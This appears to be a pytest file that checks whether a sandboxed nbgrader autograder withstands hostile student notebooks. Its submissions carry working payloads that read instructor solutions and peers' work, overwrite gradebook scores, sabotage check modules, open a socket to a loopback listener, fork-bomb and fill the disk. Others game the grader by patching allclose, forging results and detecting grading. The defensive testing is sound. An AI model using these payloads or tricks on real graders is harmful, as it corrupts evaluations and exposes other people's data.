"""What students really submit, graded through the real pipeline (`gradelib grade` over nbgrader).

Every case is a submission derived from the released notebook 01, graded in one batch with two
workers in the bubblewrap sandbox, and checked for its score and status. Copies of one submission check
that grading is deterministic, and a serial re-grade checks that parallel and serial grading agree.

The hostile cases attack the grader rather than the checks: they read the instructor's files and other
students' submissions, write the check modules and the gradebook, open a socket to a listener this test
runs on the host's loopback, fork-bomb, fill the disk, and capture or forge hidden tests with IPython
hooks. Each prints what it achieved into its own cell, which the tests read back from the autograded
notebook; the repository, the installed gradelib and a student graded earlier are hashed before and after.
"""

import copy
import hashlib
import html
import json
import re
import shutil
import subprocess
from pathlib import Path

import nbformat
import pytest
from conftest import ROOT, fork_bomb
from nbgrader.utils import is_grade, is_solution

import gradelib
from gradelib import grading
from gradelib.grading import hidden

ASSIGNMENT = "01_attention"
FULL = 29.0
LIMITS = grading.Limits(cell_timeout=40, notebook_timeout=150, memory_gb=3.0)

WRONG_CAUSAL_MASK = '''
def causal_mask(T, device=None):
    return torch.ones(T, T, dtype=torch.bool, device=device).tril(-1)  # forgets the diagonal
'''


def solution_sources() -> dict[str, str]:
    nb = nbformat.read(ROOT / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    return {c.metadata.nbgrader.grade_id: c.source for c in nb.cells if is_solution(c)}


def submission(released, answers: dict[str, str] | None = None, *, prepend: dict[str, str] | None = None,
               replace_locked: dict[str, str] | None = None, delete: tuple[str, ...] = ()):
    """The released notebook with every exercise answered as in the solution, then edited."""
    nb = copy.deepcopy(released)
    sources = solution_sources() | (answers or {})
    kept = []
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in delete:
            continue
        if grade_id in sources and is_solution(cell):
            cell.source = (prepend or {}).get(grade_id, "") + sources[grade_id]
        if grade_id in (replace_locked or {}):
            cell.source = replace_locked[grade_id]
        kept.append(cell)
    nb.cells = kept
    return nb


def attack(name: str, body: str) -> str:
    """Code appended to the last answer cell: it runs ``body`` and prints ``ATTACK name: <outcome>``."""
    indented = "".join(f"        {line}\n" for line in body.strip().splitlines())
    return (f"\ndef _attack():\n    try:\n{indented}    except BaseException as error:\n"
            f"        return f'blocked ({{type(error).__name__}}: {{error}})'\n"
            f"print('ATTACK {name}:', _attack())\n")


def hostile_cases(released, course: Path, submissions: Path, port: int) -> dict[str, object]:
    checks_on_disk = ROOT / "gradelib" / "checks" / "attention.py"
    hook_capture = ("def _spy(info):\n    print('CAPTURED', repr(info.raw_cell))\n"
                    "get_ipython().events.register('pre_run_cell', _spy)\n")
    hook_forge = ("from IPython.display import display as _display\n"
                  "def _forge(info):\n"
                  "    get_ipython().displayhook(99)\n"
                  "    for option in 'ABCD':\n"
                  "        _display({'application/vnd.gradelib.answer+json': {'label': 'Q3', 'kind': 'choice', 'answer': option},"
                  " 'text/plain': option}, raw=True)\n"
                  "get_ipython().events.register('pre_run_cell', _forge)\n")
    last = "kv_bytes"
    solution = solution_sources()

    def appended(code: str) -> dict[str, str]:
        return {last: solution[last] + code}

    return {
        "h01_reads_instructor_files": submission(released, appended(attack("read", f"""
import os
found = [p for p in ("{course}/solutions/01_attention/01_attention.ipynb", "{course}/gradebook.db",
                     "{ROOT}/solutions/01_attention/01_attention.ipynb", "{ROOT}/nbgrader_config.py") if os.path.exists(p)]
here = os.getcwd()
while here != "/":
    found += [os.path.join(here, n) for n in ("solutions", "gradebook.db", "nbgrader_config.py") if os.path.exists(os.path.join(here, n))]
    here = os.path.dirname(here)
return f"found {{found}}" if found else "nothing found"
"""))),
        "h02_writes_check_modules": submission(released, appended(attack("write-checks", f"""
import gradelib.checks.attention as target
written = []
for path in (target.__file__, "{checks_on_disk}"):
    try:
        with open(path, "a") as f:
            f.write("\\nraise SystemExit('checks sabotaged')\\n")
        written.append(path)
    except OSError as error:
        pass
return f"wrote {{written}}" if written else "nothing written"
"""))),
        "h03_writes_gradebook": submission(released, appended(attack("gradebook", f"""
import sqlite3
db = sqlite3.connect("file:{course}/gradebook.db?mode=rw", uri=True)
db.execute("UPDATE grade SET manual_score = 999")
db.commit()
return "gradebook changed"
"""))),
        "h04_reads_other_submission": submission(released, appended(attack("peer", f"""
paths = ["{course}/submitted/c02_solution/01_attention/01_attention.ipynb",
         "{submissions}/c02_solution/01_attention/01_attention.ipynb"]
return f"read {{len(open(paths[0]).read()) + len(open(paths[1]).read())}} characters"
"""))),
        "h05_network": submission(released, appended(attack("network", f"""
import socket
socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"leak")
return "connected"
"""))),
        "h06_fork_bomb": submission(released, appended(attack("fork-bomb", fork_bomb(5000, 600) + "return outcome"))),
        "h07_fills_disk": submission(released, appended(attack("disk", """
import os
chunk = b"x" * 2**24
written = 0
try:
    for folder in (os.getcwd(), "/tmp"):
        with open(os.path.join(folder, "filler"), "wb") as f:
            for _ in range(256):  # 4 GiB per folder unless stopped
                f.write(chunk)
                written += len(chunk)
finally:
    for folder in (os.getcwd(), "/tmp"):
        if os.path.exists(os.path.join(folder, "filler")):
            os.remove(os.path.join(folder, "filler"))
return f"wrote {written >> 20} MiB"
"""))),
        "h08_captures_hidden_tests": submission(released, {last: solution[last] + "\nprint(In)\n"},
                                                prepend={"sdpa": hook_capture}),
        "h09_forges_scores": submission(released, {"causal_mask": WRONG_CAUSAL_MASK}, prepend={"sdpa": hook_forge}),
    }


def build_cases(released) -> dict[str, object]:
    """student -> notebook (or raw text for an unreadable file)."""
    solution = solution_sources()
    cases = {
        "c01_untouched": copy.deepcopy(released),
        "c02_solution": submission(released),
        "c03_one_wrong": submission(released, {"sdpa": solution["sdpa"].replace(
            "weights = torch.softmax(scores, dim=-1)", "weights = scores.exp() / scores.exp().sum(dim=-1, keepdim=True)")}),
        "c04_test_edited": submission(released, {"causal_mask": WRONG_CAUSAL_MASK}, replace_locked={"code_causal_mask": "pass"}),
        "c05_test_deleted": submission(released, {"causal_mask": WRONG_CAUSAL_MASK}, delete=("code_causal_mask",)),
        "c06_infinite_loop": submission(released, {"causal_mask": "while True:\n    pass"}),
        "c07_ignores_interrupt": submission(released, {"rope": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"}),
        "c08_os_exit": submission(released, {"mha": "import os\nos._exit(0)"}),
        "c09_memory_bomb": submission(released, {"sinusoidal_pe": "hoard = []\nwhile True:\n    hoard.append(b'x' * (64 * 2**20))"}),
        "c10_truncated": None,  # written as broken JSON below
        "c11_silenced_tracebacks": submission(released, {"causal_mask": WRONG_CAUSAL_MASK},
                                              prepend={"sdpa": "get_ipython().showtraceback = lambda *a, **k: None\n"}),
        "c12_patched_allclose": submission(released, {"causal_mask": WRONG_CAUSAL_MASK}, prepend={"sdpa": (
            "import numpy\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
            "numpy.allclose = lambda *a, **k: True\n")}),
        "c13_rebound_check": submission(released, {"causal_mask": WRONG_CAUSAL_MASK + (
            "import gradelib.checks.attention\n"
            "try:\n    gradelib.checks.attention.check_causal_mask = lambda *a, **k: 1.0\nexcept AttributeError:\n    pass\n")}),
        "c14_fake_tensors": submission(released, {
            "causal_mask": "class AlwaysEqual:\n    def __eq__(self, other):\n        return True\n    shape = (1, 1)\n\n"
                          "def causal_mask(T, device=None):\n    return AlwaysEqual()\n",
            "sinusoidal_pe": "def sinusoidal_positional_encoding(num_positions, d_model):\n    return torch.full((num_positions, d_model), float('nan'))\n"}),
        "c15_calls_reference": submission(released, {"causal_mask": "def causal_mask(T, device=None):\n    return reference.causal_mask(T, device)\n"}),
        "c16_grader_aware": submission(released, {"causal_mask": WRONG_CAUSAL_MASK + (
            "import os\nif os.environ.get('NBGRADER_EXECUTION'):\n"
            "    def causal_mask(T, device=None):\n        return torch.ones(T, T, dtype=torch.bool, device=device).tril()\n")}),
        "c17_wrong_kernel": submission(released),
        "c18_future_metadata": submission(released),
    }
    cases["c17_wrong_kernel"].metadata["kernelspec"] = {"name": "no-such-kernel", "display_name": "Nope", "language": "python"}
    # nbgrader refuses a notebook whose cell metadata claims a newer schema than it knows: it cannot grade it.
    next(c for c in cases["c18_future_metadata"].cells if is_solution(c)).metadata.nbgrader["schema_version"] = 99
    for copy_index in (2, 3):  # the same submission graded three times in one batch
        cases[f"c03_one_wrong_copy{copy_index}"] = copy.deepcopy(cases["c03_one_wrong"])
    return cases


EXPECTED = {  # student -> (status, total score)
    "c01_untouched": ("ok", 0.0),
    "c02_solution": ("ok", FULL),
    "c03_one_wrong": ("ok", FULL - 0.6),
    "c03_one_wrong_copy2": ("ok", FULL - 0.6),
    "c03_one_wrong_copy3": ("ok", FULL - 0.6),
    "c04_test_edited": ("tampered", FULL - 1),
    "c05_test_deleted": ("tampered", FULL - 1),
    "c06_infinite_loop": ("ok", FULL - 1),
    "c07_ignores_interrupt": ("timeout", 0.0),
    "c08_os_exit": ("kernel-died", 0.0),
    "c09_memory_bomb": ("out-of-memory", 0.0),     # killed at the cap: by the supervisor or the sandbox's cgroup
    "c10_truncated": ("unreadable", 0.0),
    "c11_silenced_tracebacks": ("ok", FULL - 1),
    "c12_patched_allclose": ("ok", FULL - 1),
    "c13_rebound_check": ("ok", FULL - 1),
    "c14_fake_tensors": ("ok", FULL - 1 - 2),
    "c15_calls_reference": ("ok", FULL - 1),
    "c16_grader_aware": ("ok", FULL - 1),
    "c17_wrong_kernel": ("ok", FULL),
    "c18_future_metadata": ("error", 0.0),
    "h01_reads_instructor_files": ("ok", FULL),
    "h02_writes_check_modules": ("ok", FULL),
    "h03_writes_gradebook": ("ok", FULL),
    "h04_reads_other_submission": ("ok", FULL),
    "h05_network": ("ok", FULL),
    "h06_fork_bomb": ("ok", FULL),
    "h07_fills_disk": ("ok", FULL),
    "h08_captures_hidden_tests": ("tampered", FULL),            # its output quoted hidden tests: removed, noted
    "h09_forges_scores": ("tampered", FULL - 1 - 1),            # forged results dropped; Q3 got four answers
}

# What each hostile submission reports it achieved, as it printed it in its last cell.
ATTACK_OUTCOMES = {
    "h01_reads_instructor_files": ("read", "nothing found"),
    "h02_writes_check_modules": ("write-checks", "nothing written"),
    "h03_writes_gradebook": ("gradebook", "blocked (OperationalError"),
    "h04_reads_other_submission": ("peer", "blocked (FileNotFoundError"),
    "h05_network": ("network", "blocked (ConnectionRefusedError"),
    "h06_fork_bomb": ("fork-bomb", "fork refused after"),
    "h07_fills_disk": ("disk", "blocked (OSError: [Errno 27] File too large"),  # RLIMIT_FSIZE, before the tmpfs fills
}


@pytest.fixture(scope="module")
def course(released_course, tmp_path_factory):
    """A private copy of the released course, so these gradings do not mix with other tests'."""
    root = tmp_path_factory.mktemp("adversarial")
    for name in ("nbgrader_config.py", "gradebook.db"):
        shutil.copy(released_course / name, root / name)
    for folder in ("solutions", "course"):
        shutil.copytree(released_course / folder, root / folder)
    return root


def tree_digest(folder: Path, paths: list[str]) -> str:
    digest = hashlib.sha256()
    for name in sorted(paths):
        digest.update(name.encode() + b"\0" + (folder / name).read_bytes())
    return digest.hexdigest()


def repository_digest() -> str:
    tracked = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True, check=True).stdout.decode()
    return tree_digest(ROOT, [p for p in tracked.split("\0") if p and (ROOT / p).is_file()])


def installed_gradelib_digest() -> str:
    package = Path(gradelib.__file__).parent
    return tree_digest(package, [str(p.relative_to(package)) for p in package.rglob("*.py")])


def gradebook_rows(course: Path, student: str) -> str:
    with grading.gradebook(course) as gradebook:
        notebook = gradebook.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, student)
        return json.dumps(sorted((g.name, g.auto_score, g.manual_score) for g in notebook.grades))


@pytest.fixture(scope="module")
def batch(course, tmp_path_factory, loopback_listener):
    port, accepted = loopback_listener
    released = nbformat.read(course / "course" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    folder = tmp_path_factory.mktemp("submissions")

    def write(cases):
        for student, nb in cases.items():
            target = folder / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
            target.parent.mkdir(parents=True)
            if nb is None:
                target.write_text(nbformat.writes(released)[:5000])  # cut off mid-JSON
            else:
                nbformat.write(nb, target)

    # A student graded before the hostile batch: its gradebook rows must come out of it untouched.
    write({"a00_bystander": submission(released)})
    grading.grade_batch(course, ASSIGNMENT, grading.find_submissions(folder, ASSIGNMENT), workers=1, limits=LIMITS,
                        progress=False)
    before = {"repository": repository_digest(), "gradelib": installed_gradelib_digest(),
              "bystander": gradebook_rows(course, "a00_bystander")}

    write(build_cases(released) | hostile_cases(released, course, folder, port))
    submissions = {s: p for s, p in grading.find_submissions(folder, ASSIGNMENT).items() if s != "a00_bystander"}
    results = grading.grade_batch(course, ASSIGNMENT, submissions, workers=2, limits=LIMITS, progress=False,
                                  similarity_html=course / "similarity.html")
    print("\n" + grading.summary_table(results))
    after = {"repository": repository_digest(), "gradelib": installed_gradelib_digest(),
             "bystander": gradebook_rows(course, "a00_bystander")}
    return {r.student: r for r in results}, submissions, {"before": before, "after": after, "accepted": accepted}


def autograded_text(course: Path, student: str) -> str:
    nb = nbformat.read(course / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    return "\n".join(json.dumps(cell.get("outputs", [])) for cell in nb.cells)


@pytest.mark.parametrize("student", sorted(EXPECTED))
def test_case_gets_expected_status_and_score(batch, student):
    results, *_ = batch
    result = results[student]
    status, score = EXPECTED[student]
    assert (result.status, result.score) == (status, pytest.approx(score)), result.notes


def test_restored_tests_are_flagged(batch):
    results, *_ = batch
    assert any("code_causal_mask was edited" in n for n in results["c04_test_edited"].notes)
    assert any("code_causal_mask was deleted" in n for n in results["c05_test_deleted"].notes)


def test_feedback_names_the_fault(batch, course):
    feedback = (course / "feedback" / "c03_one_wrong" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert "Scaled dot-product attention: 2.4 / 3 points" in feedback and "NaN or inf" in feedback
    feedback = (course / "feedback" / "c15_calls_reference" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert "calls gradelib.reference" in feedback


def test_time_is_bounded(batch):
    results, *_ = batch
    assert results["c07_ignores_interrupt"].seconds < LIMITS.notebook_timeout + 30
    assert results["c06_infinite_loop"].seconds < LIMITS.notebook_timeout


def test_serial_unsandboxed_grading_gives_the_same_scores(batch, course):
    """Parallel and serial, sandboxed and not (--no-sandbox): the scores agree, and the rows say how."""
    results, submissions, _ = batch
    again = grading.grade_batch(course, ASSIGNMENT, {s: submissions[s] for s in ("c02_solution", "c03_one_wrong")},
                                workers=1, limits=LIMITS, progress=False, sandboxed=False)
    for result in again:
        assert result.cells == results[result.student].cells
        assert result.score == results[result.student].score
        assert result.sandbox == "none"


def test_csv_has_a_status_column(batch, tmp_path):
    results, *_ = batch
    path = tmp_path / "grades.csv"
    grading.write_csv(list(results.values()), path)
    header, *rows = path.read_text().splitlines()
    assert header.startswith("student,status,score,max_score,seconds,")
    assert {row.split(",")[0]: row.split(",")[1] for row in rows} == {s: status for s, (status, _) in EXPECTED.items()}


@pytest.mark.parametrize("student", sorted(ATTACK_OUTCOMES))
def test_each_attack_on_the_grader_fails_from_inside(batch, course, student):
    name, outcome = ATTACK_OUTCOMES[student]
    text = autograded_text(course, student)
    assert f"ATTACK {name}: {outcome}" in text, text[text.find("ATTACK"):][:300]


def test_grading_leaves_repository_gradelib_and_gradebook_byte_identical(batch):
    _, _, evidence = batch
    assert evidence["after"] == evidence["before"]


def test_no_connection_reached_the_host(batch):
    _, _, evidence = batch
    assert evidence["accepted"] == []


def test_fork_bomb_was_capped_by_the_sandbox(batch, course):
    text = autograded_text(course, "h06_fork_bomb")
    forked = int(text.split("fork refused after ")[1].split()[0])
    assert forked < grading.sandbox.SandboxLimits().processes


def test_every_row_records_the_sandbox(batch, tmp_path):
    results, _, _ = batch
    assert {r.sandbox for r in results.values()} <= {"bwrap", "bwrap+cgroups"}
    path = tmp_path / "grades.csv"
    grading.write_csv(list(results.values()), path)
    assert "sandbox" in path.read_text().splitlines()[0].split(",")


def test_hidden_tests_do_not_reach_feedback_even_when_captured(batch, course):
    solution = nbformat.read(ROOT / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    originals = {c.metadata.nbgrader.grade_id: c.source for c in solution.cells if is_grade(c)}
    secrets = hidden.quoted_lines(originals)
    results, _, _ = batch
    for student in results:
        path = course / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html"
        if not path.exists():
            continue
        page = html.unescape(re.sub(r"<[^>]+>", "", path.read_text()))  # highlighted source splits lines
        assert not hidden.quotes_hidden(page, secrets), student
        assert "expected=" not in page and "seed=1117" not in page, student
    notes = "; ".join(results["h08_captures_hidden_tests"].notes)
    assert "output quoted hidden tests" in notes


def test_forged_scores_are_dropped_and_noted(batch):
    results, _, _ = batch
    result = results["h09_forges_scores"]
    assert result.cells["code_causal_mask"] == 0 and result.cells["concept_cross_attention"] == 0
    notes = "; ".join(result.notes)
    assert "published a score that no check printed" in notes and "recorded 4 different answers to Q3" in notes


def test_similarity_report_flags_the_copies(batch, course):
    results, _, _ = batch
    # Most submissions are the solution: they share their code, and the report says so (a flag, not a score).
    assert results["c02_solution"].similarity is not None and results["c02_solution"].similarity >= 0.7
    assert results["c01_untouched"].similarity is None
    assert "Similarity report" in (course / "similarity.html").read_text()
